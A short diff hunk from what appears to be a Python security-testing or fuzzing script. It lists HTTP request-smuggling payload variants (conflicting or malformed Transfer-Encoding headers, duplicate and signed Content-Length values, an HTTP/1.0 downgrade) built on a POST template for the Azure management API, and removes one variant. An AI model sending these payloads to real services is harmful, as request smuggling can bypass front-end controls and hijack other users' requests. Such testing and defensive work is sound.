@@ -172,7 +172,6 @@ POST = "POST /subscriptions?api-version=2022-12-01 HTTP/1.1\r\nHost: management.
         f"{POST}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{{inner}}",
         f"{POST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{{inner}}",
         f"{POST}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{{inner}}",
-        f"{POST}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n{{inner}}",
         f"{POST.replace('1.1', '1.0')}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{{inner}}",
         f"{POST}Content-Length: 0\r\nContent-Length: 5\r\n\r\n{{inner}}",
         f"{POST}Content-Length: +5\r\n\r\n{{inner}}",
